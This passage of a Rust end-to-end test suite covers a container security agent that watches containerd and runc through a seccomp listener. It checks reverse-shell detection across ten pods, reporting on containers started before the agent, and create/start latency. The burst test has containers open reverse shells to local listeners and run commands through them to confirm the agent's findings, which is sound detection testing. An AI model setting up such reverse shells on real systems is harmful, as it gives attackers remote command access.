                    let name = format!("burst-{i}");
                    let pod = cri
                        .run_pod(&PodSpec::new(&name).namespace("burst"))
                        .expect("RunPodSandbox");
                    let id = cri
                        .run_container(
                            &pod,
                            &ContainerSpec::new("app")
                                .command(&strs(cmd))
                                .env("POD_INDEX", &i.to_string()),
                        )
                        .expect("container");
                    (name, id, pod)
                })
            })
            .collect();
        handles
            .into_iter()
            .map(|h| h.join().expect("pod thread"))
            .collect()
    });
    println!(
        "containerd {}: {PODS} pods with a container each started in {:?} (10 threads)",
        v.label(),
        started.elapsed()
    );

    let mut peers = Vec::new();
    for (i, l) in listeners.iter_mut().enumerate() {
        let peer = l.accept(CONNECT_TIMEOUT).expect("reverse shell connects");
        let out = l
            .run("echo pod=$POD_INDEX", SHELL_TIMEOUT)
            .expect("shell answers");
        assert_eq!(
            out,
            format!("pod={i}\n"),
            "listener {i} reached the wrong pod"
        );
        peers.push(peer);
    }
    for (i, l) in listeners.iter().enumerate() {
        let (name, id, pod) = &pods[i];
        let f = wait_shell_finding(agent, mark, l.port(), "/bin/sh");
        assert_shell_finding(
            &f,
            "allowed",
            pod,
            "app",
            ShellPid::IsInit(node.init_pid(id)),
            l.port(),
            peers[i],
        );
        assert_eq!(f["finding"]["sourceProperties"]["Pod_Name"], name.as_str());
    }
    // Every finding of these shells names the pod whose listener the connection went to.
    for f in findings_after(agent, mark) {
        let port = f["finding"]["connections"][0]["destinationPort"].as_u64();
        let i = listeners
            .iter()
            .position(|l| Some(u64::from(l.port())) == port)
            .unwrap_or_else(|| panic!("finding for an unknown connection: {f}"));
        assert_eq!(
            f["finding"]["sourceProperties"]["Pod_Name"],
            pods[i].0.as_str(),
            "{f}"
        );
    }
    let status = node.status();
    for (name, id, _) in &pods {
        let e = status_entry(&status, id).unwrap_or_else(|| panic!("{name} not in status"));
        assert_eq!(e["monitored"], true, "{name}: {e}");
        assert_eq!(e["pod_name"], name.as_str(), "{e}");
    }
    assert_eq!(status["coverage_errors"], 0, "{status}");
    let lat = node.print_create_latency(v, "ten pods at once");
    assert!(
        lat["count"].as_u64().unwrap_or(0) >= PODS as u64,
        "a CreateContainer answer per container was measured: {lat}"
    );
}

// ---------------------------------------------------------------------------------------------
// 7. Start order.

fn containers_created_before_the_agent_are_reported_unmonitored(v: Version) {
    let mut node = Node::start(
        v,
        Options {
            no_agent: true,
            ..Options::default()
        },
    );
    let (_, early) = node.pod_with(
        PodSpec::new(&unique("early")).namespace("shop"),
        ContainerSpec::sleeper("app"),
    );
    let early_spec = node.cd.oci_config(&early).expect("config.json").to_string();
    assert!(!early_spec.contains("listenerPath"), "{early_spec}");

    node.start_agent();
    let (_, late) = node.pod_with(
        PodSpec::new(&unique("late")).namespace("shop"),
        ContainerSpec::sleeper("app"),
    );
    assert!(seccomp_of(&node.cd, &late)["listenerPath"].is_string());
    // The early container still works.
    let r = node
        .cri
        .exec_sync(&early, &["/bin/true"], Duration::from_secs(20))
        .expect("ExecSync in the early container");
    assert_eq!(r.exit_code, 0, "{r:?}");

    let status = node.status();
    let e = status_entry(&status, &early)
        .cloned()
        .expect("early in status");
    assert_eq!(e["monitored"], false, "{e}");
    assert!(
        e["note"]
            .as_str()
            .unwrap_or("")
            .contains("created before the agent"),
        "{e}"
    );
    let l = status_entry(&status, &late)
        .cloned()
        .expect("late in status");
    assert_eq!(l["monitored"], true, "{l}");
    println!(
        "containerd {}: early container note {:?}, late monitored with {} listener fd(s)",
        v.label(),
        e["note"],
        l["listener_fds"]
    );
    node.print_create_latency(v, "start order");
}

// ---------------------------------------------------------------------------------------------
// 8. Speed.

fn speed_of_create_container_answers_and_wrapper_create(v: Version) {
    const ROUNDS: usize = 25;
    const EXEC_ROUNDS: usize = 100;
    let node = Node::start(
        v,
        Options {
            plain_runc: true,
            config: Some("[injection]\nexclude_namespaces = [\"unwatched\"]\n"),
            ..Options::default()
        },
    );
    // The wrapper on one bundle (see rce_guard_e2e::TimingBundle), on this machine's disk
    // (where the test containerds keep their state) and on tmpfs (where /run, containerd's
    // state, is on a real node). The release build of the wrapper, when one sits next to this
    // debug build, is what a node runs: it is measured too, and used for the real creates.
    let ms = |d: Duration| d.as_secs_f64() * 1000.0;
    let mut wrappers = vec![node.bins.wrapper.clone()];
    let release = node
        .bins
        .wrapper
        .parent()
        .filter(|d| d.file_name() == Some("debug".as_ref()))
        .and_then(Path::parent)
        .map(|target| target.join("release/rce-guard-runc"))
        .filter(|p| p.is_file());
    wrappers.extend(release);
    let preferred = wrappers.last().cloned().expect("a wrapper");
    for (place, parent) in [("ext4 /tmp", "/tmp"), ("tmpfs /dev/shm", "/dev/shm")] {
        let bundle = TimingBundle::new_in(
            Path::new(parent),
            node.listener_path(),
            rce_guard::agent::LISTENER_METADATA,
        )
        .expect("timing bundle");
        for wrapper in &wrappers {
            let real_rounds = if *wrapper == preferred { ROUNDS } else { 0 };
            let t = bundle
                .measure(wrapper, EXEC_ROUNDS, real_rounds)
                .expect("create timings");
            assert_eq!(t.wrapper_to_true.len(), EXEC_ROUNDS);
            assert_eq!(t.true_alone.len(), EXEC_ROUNDS);
            println!(
                "SPEED containerd {} wrapper's own cost on `create` ({}, bundle on {place}), \
                 {EXEC_ROUNDS} interleaved rounds: wrapper->/bin/true p50 {:.2} ms (p90 {:.2}) \
                 vs /bin/true p50 {:.2} ms (p90 {:.2}): {:+.2} ms at p50",
                v.label(),
                wrapper.display(),
                ms(median(&t.wrapper_to_true)),
                ms(percentile(&t.wrapper_to_true, 0.9)),
                ms(median(&t.true_alone)),
                ms(percentile(&t.true_alone, 0.9)),
                ms(median(&t.wrapper_to_true)) - ms(median(&t.true_alone)),
            );
            if real_rounds == 0 {
                continue;
            }
            assert_eq!(t.wrapper.len(), ROUNDS);
            assert_eq!(t.runc_merged.len(), ROUNDS);
            assert_eq!(t.runc_unmerged.len(), ROUNDS);
            println!(
                "SPEED containerd {} real `create` ({}, bundle on {place}), {ROUNDS} interleaved \
                 rounds ({} repeated after a runc failure), p50 (p90): wrapper+runc {:.2} ms \
                 ({:.2}); runc on the merged spec {:.2} ms ({:.2}); runc without seccomp {:.2} \
                 ms ({:.2}); wrapper vs runc on the merged spec {:+.2} ms; monitoring's total \
                 cost {:+.2} ms",
                v.label(),
                wrapper.display(),
                t.retried,
                ms(median(&t.wrapper)),
                ms(percentile(&t.wrapper, 0.9)),
                ms(median(&t.runc_merged)),
                ms(percentile(&t.runc_merged, 0.9)),
                ms(median(&t.runc_unmerged)),
                ms(percentile(&t.runc_unmerged, 0.9)),
                ms(median(&t.wrapper)) - ms(median(&t.runc_merged)),
                ms(median(&t.wrapper)) - ms(median(&t.runc_unmerged)),
            );
        }
    }

    // Through containerd: StartContainer (runc create + start) with the wrapper as runc vs
    // plain runc, same container spec, interleaved. CreateContainer (where the plugin answers)
    // is timed as well.
    let cri = &node.cri;
    let wrapped_pod = cri
        .run_pod(&PodSpec::new(&unique("speed-wrapped")).namespace("speed"))
        .expect("pod");
    let plain_pod = cri
        .run_pod(
            &PodSpec::new(&unique("speed-plain"))
                .namespace("speed")
                .runtime_handler("plain"),
        )
        .expect("pod");
    let mut start = [Vec::new(), Vec::new()];
    let mut create = [Vec::new(), Vec::new()];
    for i in 0..ROUNDS {
        for k in 0..2 {
            let which = (i + k) % 2;
            let pod = if which == 0 { &wrapped_pod } else { &plain_pod };
            let spec = ContainerSpec::new(&format!("c{i}")).command(&["sleep", "3600"]);
            let t0 = Instant::now();
            let id = cri.create_container(pod, &spec).expect("CreateContainer");
            let t1 = Instant::now();
            cri.start_container(&id).expect("StartContainer");
            let t2 = Instant::now();
            create[which].push(t1 - t0);
            start[which].push(t2 - t1);
            if which == 0 && i == 0 {
                assert!(seccomp_of(&node.cd, &id)["listenerPath"].is_string());
            }
            if which == 1 && i == 0 {
                assert!(
                    seccomp_of(&node.cd, &id).is_null(),
                    "plain runc got no rule"
                );
            }
            cri.stop_container(&id, Duration::from_secs(0))
                .expect("stop");
            cri.remove_container(&id).expect("remove");
        }
    }
    println!(
        "SPEED containerd {} through CRI, {ROUNDS} each, p50: StartContainer wrapper {:.1} ms vs \
         plain runc {:.1} ms ({:+.1} ms); CreateContainer {:.1} ms vs {:.1} ms",
        v.label(),
        ms(median(&start[0])),
        ms(median(&start[1])),
        ms(median(&start[0])) - ms(median(&start[1])),
        ms(median(&create[0])),
        ms(median(&create[1])),
    );
    // A corpus of other container kinds for the plugin's answer latency.
    for i in 0..5 {
        let ns = if i % 2 == 0 { "speed" } else { "unwatched" };
        node.pod_with(
            PodSpec::new(&unique("corpus")).namespace(ns),
            ContainerSpec::sleeper("app").seccomp(if i % 2 == 0 {
                Seccomp::RuntimeDefault
            } else {
                Seccomp::Unset
            }),
        );
    }
    let lat = node.print_create_latency(v, "speed corpus");
    assert!(
        lat["count"].as_u64().unwrap_or(0) >= (2 * ROUNDS + 5) as u64,
        "{lat}"
    );
}
